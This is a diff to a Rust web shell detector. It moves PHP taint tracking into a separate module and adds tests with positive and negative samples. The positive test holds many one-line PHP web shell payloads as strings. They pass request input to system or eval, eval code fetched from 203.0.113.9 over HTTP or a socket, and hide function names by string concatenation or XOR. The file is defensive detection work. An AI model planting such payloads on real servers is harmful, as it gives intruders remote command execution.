@@ -8,6 +8,7 @@ use regex_automata::meta::{Config, Regex};
 use regex_automata::util::syntax;
 
 use super::comments::without_comments;
+use super::php;
 
 /// What a script is written in.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
@@ -47,25 +48,29 @@ impl Score {
     }
 }
 
-const RUNS: &str = "input of a request that runs as code or a command";
-const INDIRECT: &str = "a variable with input of a request that runs as code or a command";
+pub(super) const RUNS: &str = "input of a request that runs as code or a command";
+pub(super) const INDIRECT: &str = "a variable with input of a request that runs as code or a command";
 const DECODED: &str = "decoded text that runs as code";
 const CHAIN: &str = "text that is decoded several times";
-const NAMES: &str = "names of functions that are put together";
+pub(super) const NAMES: &str = "names of functions that are put together";
 const GATE: &str = "a password in front of it";
 const KNOWN: &str = "the name of a known web shell";
 const QUIET: &str = "errors and time limits that are switched off";
 const UPLOAD: &str = "a form that stores any file";
-const WRITES: &str = "input of a request that is written to a file of its choice";
-const LOADS: &str = "code that is decoded and loaded as a class";
-const OBJECTS: &str = "encoded input of a request that becomes objects";
+pub(super) const WRITES: &str = "input of a request that is written to a file of its choice";
+pub(super) const LOADS: &str = "code that is decoded and loaded as a class";
+pub(super) const OBJECTS: &str = "encoded input of a request that becomes objects";
 const OBJECTS_RUN: &str = "objects that call a function of their choice as they end";
 const LONG: &str = "a very long line of random text";
+
+const ALONE: &str = "hardly anything else in the script";
+/// Length of a script that does nothing else.
+const SHORT: usize = 600;
 
 /// A mark: its words, its points, and its patterns, all of which must occur.
 type Mark = (&'static str, u32, &'static [&'static str]);
 
-const PHP: [Mark; 19] = [
+const PHP: [Mark; 18] = [
     (
         RUNS,
         5,
@@ -96,8 +101,6 @@ const PHP: [Mark; 19] = [
         5,
         &[r"preg_replace\s*\(\s*[\x22'](.)[^\x22'\n]*/[a-z]*e[a-z]*[\x22']\s*,[^;]*\$_(?:get|post|request|cookie)"],
     ),
-    // `$f($_POST["x"])`: the name of the function is in the variable. Frameworks pass input to callbacks, too.
-    (INDIRECT, 3, &[r"(?:^|[^\w>:\\])@?\$\w+\s*\(\s*@?\$_(?:get|post|request|cookie)\s*\["]),
     (
         OBJECTS,
         3,
@@ -212,23 +215,16 @@ const NODE: [Mark; 2] = [
     (RUNS, 5, &[r"\beval\s*\(\s*(?:req|request)\.(?:query|body|params|headers|cookies)"]),
 ];
 
-/// A variable that gets input of a request.
-const ASSIGNED: &str = r"\$(\w+)\s*=\s*@?(?:trim\s*\(|base64_decode\s*\(|urldecode\s*\(|stripslashes\s*\(|isset\s*\([^;]*\)\s*\?\s*|\(string\)\s*)*\$_(?:get|post|request|cookie)\s*\[";
-/// A function that runs code or commands over a variable.
-const SINK: &str = r"(?:^|[^\w>:$\\])(?:eval|assert|system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec)\s*\(\s*@?(?:base64_decode\s*\(|gzinflate\s*\(|trim\s*\(|[\x22'][^\x22'\n]*[\x22']\s*\.\s*|[\x22'])*\s*\$(\w+)";
-
 struct Patterns {
     php: Set,
     jsp: Set,
     cgi: Set,
     node: Set,
-    assigned: Regex,
-    sink: Regex,
 }
 
 type Set = Vec<(&'static str, u32, Vec<Regex>)>;
 
-fn regex(pattern: &str) -> Option<Regex> {
+pub(super) fn regex(pattern: &str) -> Option<Regex> {
     let syntax = syntax::Config::new().utf8(false).unicode(false).case_insensitive(true);
     Regex::builder().syntax(syntax).configure(Config::new().utf8_empty(false)).build(pattern).ok()
 }
@@ -240,16 +236,7 @@ fn set(marks: &[Mark]) -> Option<Set> {
 
 fn patterns() -> Option<&'static Patterns> {
     static PATTERNS: OnceLock<Option<Patterns>> = OnceLock::new();
-    let make = || {
-        Some(Patterns {
-            php: set(&PHP)?,
-            jsp: set(&JSP)?,
-            cgi: set(&CGI)?,
-            node: set(&NODE)?,
-            assigned: regex(ASSIGNED)?,
-            sink: regex(SINK)?,
-        })
-    };
+    let make = || Some(Patterns { php: set(&PHP)?, jsp: set(&JSP)?, cgi: set(&CGI)?, node: set(&NODE)? });
     PATTERNS.get_or_init(make).as_ref()
 }
 
@@ -272,31 +259,20 @@ pub(super) fn of(language: Language, text: &[u8]) -> Score {
         }
     }
     if language == Language::Php {
-        indirect(patterns, text, &mut score);
+        let mut found = php::found(text);
+        found.sort_by_key(|found| std::cmp::Reverse(found.points));
+        for found in found {
+            score.add(found.points, found.words, Some(found.at));
+        }
+        if score.points == 4 && text.len() < SHORT {
+            score.add(1, ALONE, None);
+        }
         let is_long = |line: &[u8]| line.len() > 5000 && entropy(line.get(..4096).unwrap_or(line)) > 5.4;
         if score.points > 0 && text.lines().any(is_long) {
             score.add(1, LONG, None);
         }
     }
     score
-}
-
-/// Input that reaches such a function through a variable.
-fn indirect(patterns: &Patterns, text: &[u8], score: &mut Score) {
-    let names = |regex: &Regex| -> Vec<(Vec<u8>, usize)> {
-        let all = regex.captures_iter(text).take(512);
-        all.filter_map(|found| found.get_group(1))
-            .filter_map(|group| Some((text.get(group.range())?.to_vec(), group.start)))
-            .collect()
-    };
-    let inputs: std::collections::HashMap<Vec<u8>, usize> = names(&patterns.assigned).into_iter().rev().collect();
-    if inputs.is_empty() {
-        return;
-    }
-    let reaches = names(&patterns.sink).into_iter().find(|(name, at)| inputs.get(name).is_some_and(|from| from < at));
-    if let Some((_, at)) = reaches {
-        score.add(4, INDIRECT, Some(at));
-    }
 }
 
 /// Bits a byte.
@@ -353,6 +329,76 @@ mod tests {
             "<?php /* x */ system(/* y */ $_GET['c']);",
         ] {
             assert!(points(Language::Php, text) >= 5, "{text}: {}", points(Language::Php, text));
+        }
+    }
+
+    #[test]
+    fn what_a_visitor_sends_is_followed() {
+        for text in [
+            "<?php move_uploaded_file($_FILES['f']['tmp_name'], $_POST['n']);",
+            "<?php $p = openssl_decrypt(file_get_contents('php://input'), 'AES128', $k); eval($p);",
+            "<?php extract($_REQUEST); @$f($g);",
+            "<?php (new ReflectionFunction($_GET['f']))->invoke($_GET['a']);",
+            "<?php $r = new ReflectionFunction('sys' . 'tem'); $r->invoke($_GET['a']);",
+            "<?php create_function('', $_POST['x'])();",
+            "<?php preg_replace_callback('/.*/', $_GET['f'], $_GET['s']);",
+            "<?php $c = getallheaders()['X-C']; system($c);",
+            "<?php eval('?>' . curl_exec($c));",
+            "<?php $t = file_get_contents('http://203.0.113.9/x'); eval($t);",
+            "<?php $z = strrev('metsys'); $z(implode('', array_slice($_POST, 0, 1)));",
+            "<?php $a = 'ev' . 'al'; $d = $_POST['p']; $f = fn($x) => eval($x); $f($b($d));",
+            "<?php function run($c) { return shell_exec($c); } echo run(trim($_REQUEST['q']));",
+            "<?php class A { public $c; function go() { eval($this->c); } } $a = new A; $a->c = $_POST['x']; eval($a->c);",
+            "<?php class C { function __invoke($p) { eval($p); } } call_user_func(new C(), $_POST['a']);",
+            "<?php array_map('assert', (array)$_REQUEST['op']);",
+            "<?php array_walk($_GET, 'pass' . 'thru');",
+            "<?php $f = tmpfile(); fwrite($f, '<?php ' . $_POST['c']); include stream_get_meta_data($f)['uri'];",
+            "<?php file_put_contents($t = '/tmp/a', $_POST['c']); $x = '/tmp/b'; file_put_contents($x, $_POST['c']); include $x;",
+            "<?php mail('a@b', '', $_GET['m'], '', '-X/var/www/html/x.php');",
+            "<?php $f = FFI::cdef('int system(char*);'); $f->system($_GET['c']);",
+            "<?php putenv('LD_PRELOAD=/tmp/x.so'); mail('a', 'b', 'c');",
+            "<?php include $_SERVER['HTTP_X_T'];",
+            "<?php include 'data:text/plain,' . $_GET['x'];",
+            "<?php include 'php://input';",
+            "<?php $_ = ('%' ^ '`'); $__ = '_' . (']' ^ \"\\x1a\") . ('e' ^ ' ') . ('t' ^ ' '); $_ = $$__; $_[0]($_[1]);",
+            "<?php ${'_' . 'GET'}[0](${'_GET'}[1]);",
+            "<?php $a = 'sys'; $a .= 'tem'; $a($_COOKIE['x']);",
+            "<?php ('sys' . 'tem')($_GET[0]);",
+            "<?php $f = chr(101) . chr(120) . 'ec'; $f($_GET[0]);",
+            "<?php $a = 'sys'; $b = 'tem'; \"{$a}$b\"($_GET[0]);",
+            "<?php foreach ($_POST as $k => $v) { eval($v); }",
+            "<?php list($a, $b) = explode('|', $_COOKIE['s']); $a($b);",
+            "<?php $p = [$_POST['a']]; usort($p, 'assert');",
+            "<?php filter_var($_GET['c'], FILTER_CALLBACK, ['options' => 'system']);",
+            "<?php parse_str($_SERVER['QUERY_STRING'], $q); system($q['c']);",
+            "<?php $x = $GLOBALS['_POST']['c']; exec($x);",
+            "<?php $q = isset($_GET['c']) ? $_GET['c'] : 'id'; passthru($q);",
+            "<?php $s = fsockopen('203.0.113.9', 80); while (!feof($s)) { eval(fgets($s)); }",
+            "<?php preg_replace('~.*~e', $_POST['x'], 'a');",
+            "<?php file_put_contents($_GET['f'], $_POST['d']);",
+        ] {
+            assert!(points(Language::Php, text) >= 5, "{text}: {:?}", of(Language::Php, text.as_bytes()));
+        }
+    }
+
+    #[test]
+    fn what_was_cleaned_is_not_followed() {
+        for text in [
+            "<?php $p = basename($_GET['page']); include $p;",
+            "<?php $p = preg_replace('/[^a-z]/', '', $_GET['page']); include $p;",
+            "<?php $f = $_GET['f']; if (!in_array($f, $ok, true)) { exit; } $f = (int) $f; system('kill ' . $f);",
+            "<?php function a() { $x = $_POST['x']; } function b($x) { system($x); }",
+            "<?php $c = $_GET['c']; $c = 'ls'; system($c);",
+            "<?php $controls['id'] = $_GET['id']; call_user_func($controls['callback'], $controls['id']);",
+            "<?php $x = \"(\\$_POST['a'] ?? null)\"; eval($x);",
+            "<?php $f = 'trim'; $f($_POST['a']); array_map('trim', $_POST);",
+            "<?php move_uploaded_file($_FILES['f']['tmp_name'], $dir . '/' . $name);",
+            "<?php $re->exec($_GET['a']); $db->query($_POST['q']); Foo::system('x');",
+            "<?php file_put_contents('log.txt', $_POST['message'], FILE_APPEND);",
+            "<?php $html = file_get_contents('https://example.com/'); echo $html;",
+            "<?php unserialize($_COOKIE['x'], ['allowed_classes' => false]);",
+        ] {
+            assert!(points(Language::Php, text) < 3, "{text}: {:?}", of(Language::Php, text.as_bytes()));
         }
     }
 
